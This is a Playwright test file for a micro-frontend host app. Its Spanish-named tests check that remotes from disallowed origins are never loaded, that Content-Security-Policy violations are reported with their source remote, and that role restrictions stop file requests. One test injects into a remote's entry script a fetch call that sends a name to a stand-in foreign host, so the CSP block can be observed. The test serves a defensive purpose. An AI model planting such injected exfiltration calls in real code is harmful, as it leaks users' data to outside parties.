/** Code comes only from where it may; and whatever goes wrong is reported with the remote to which it belongs. */
import type { Page } from '@playwright/test';
import { expectAccessible } from '../../support/axe';
import { quiet } from '../../support/quiet';
import { publish } from '../../support/remote-faults';
import { PEDIDOS, pointerOf, readFromRemote, serveRegistry } from '../../support/remotes';
import { heading, menu } from '../../support/screen';
import { takeScreenshot } from '../../support/screenshots';
import { expect, test } from '../../support/test';

interface Report {
  tipo: string;
  remoto: string;
  mensaje: string;
}

/** What the page sends to the host's endpoint. */
function reportsOf(page: Page): Report[] {
  const sent: Report[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/errores') sent.push(request.postDataJSON());
  });
  return sent;
}

test('de un origen que el servidor no admite no se pide nada', async ({ as, complaints }) => {
  const page = await as('Admin');
  const sent = reportsOf(page);
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith('https://otro.example')) foreign.push(request.url());
  });
  await serveRegistry(page, ({ remotes }) => {
    for (const name of ['ventas', 'reportes']) {
      const pointer = remotes[name];
      if (!pointer) continue;
      if (name === 'ventas') pointer.entry = 'https://otro.example/remotes/ventas/b/mf-manifest.json';
      else pointer.preload = ['https://otro.example/x.js'];
    }
  });
  await page.goto('/orden');
  await expect(heading(page, 'No se pudo abrir Ventas')).toBeVisible();
  await menu(page, 'Reportes').click();
  await expect(heading(page, 'No se pudo abrir Reportes')).toBeVisible();
  await expectAccessible(page);
  await takeScreenshot(page, 'no-se-pudo-abrir');
  await expect.poll(() => sent.map(({ remoto }) => remoto).sort()).toEqual(['reportes', 'ventas']);
  expect(sent[0]?.mensaje).toMatch(/otro\.example.* no viene de un origen permitido/);
  await menu(page, 'Empresas').click();
  await expect(heading(page, 'Empresas')).toBeVisible();
  expect(foreign).toEqual([]);
  complaints.length = 0;
});

test('una violación de la política de seguridad se informa con el remoto de donde viene', async ({
  as,
  complaints,
}) => {
  // Home would load this remote too, for its panels.
  const page = await as('Admin', '/clientes');
  const sent = reportsOf(page);
  const told: Record<string, string>[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/errores/csp') told.push(request.postDataJSON()['csp-report']);
  });
  const pointer = await pointerOf('operaciones');
  const entry = pointer.preload.find((file) => file.startsWith('remoteEntry')) ?? '';
  const original = await readFromRemote('operaciones', pointer, entry);
  await publish(
    page,
    'operaciones',
    entry,
    `${original};fetch('https://otro.example/x?nombre=Ana').catch(() => {});`,
  );
  await page.goto('/proveedores');
  await expect(heading(page, 'Proveedores')).toBeVisible();
  // The browser reports it by itself; the host finds the remote in the address, and drops the query of an address.
  await expect
    .poll(() => told)
    .toMatchObject([
      {
        'effective-directive': 'connect-src',
        'blocked-uri': expect.stringMatching(/^https:\/\/otro\.example/),
        'source-file': expect.stringContaining('/remotes/operaciones/'),
      },
    ]);
  await page.getByRole('button', { name: 'Panel técnico' }).press('Enter');
  const panel = page.getByRole('dialog', { name: 'Panel técnico' });
  await expect(
    panel
      .getByRole('table', { name: 'Partes de la aplicación' })
      .getByRole('row')
      .filter({ hasText: 'Operaciones' }),
  ).toContainText('connect-src: https://otro.example');
  expect(sent, 'not told a second time').toEqual([]);
  complaints.length = 0;
});

test('de lo que un rol no puede abrir no se pide ni un archivo; lo que puede, se adelanta al acercarse', async ({
  as,
}) => {
  const page = await as('Visor', '/inicio');
  const asked: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/remotes/')) asked.push(request.url());
  });
  // By keyboard, because a pointer that happens to be over a link of Inicio fetches that page ahead.
  const answer = page.getByRole('button', { name: 'Aceptar' });
  const denied = () => asked.filter((url) => /\/remotes\/reportes\/|\/inventario-page-/.test(url));
  await menu(page, 'Inventario').hover();
  await menu(page, 'Inventario').focus();
  await menu(page, 'Inventario').click();
  await answer.press('Enter');
  await expect(page).toHaveURL(/\/inicio$/);
  await page.goto('/reporte/ventas');
  await answer.press('Enter');
  await expect(heading(page, 'Inicio')).toBeVisible();
  await expect(page.getByRole('region', { name: 'Listos para entregar' })).toHaveAttribute(
    'aria-busy',
    'false',
  );
  expect(denied()).toEqual([]);
  await expect(page.getByRole('button', { name: 'Panel técnico' })).toBeHidden();

  await quiet(page);
  const before = asked.length;
  const list = page.waitForRequest(/\/remotes\/ventas\/.*ordenes-page/);
  await menu(page, 'Pedidos').focus();
  await list;
  await quiet(page);
  const ahead = asked.length;
  expect(asked.slice(before).filter((url) => !url.includes('/remotes/ventas/'))).toEqual([]);
  await menu(page, 'Pedidos').press('Enter');
  await expect(heading(page, PEDIDOS.h1)).toBeVisible();
  expect(
    asked.slice(ahead).filter((url) => /-page-/.test(url)),
    'its page was there',
  ).toEqual([]);
});
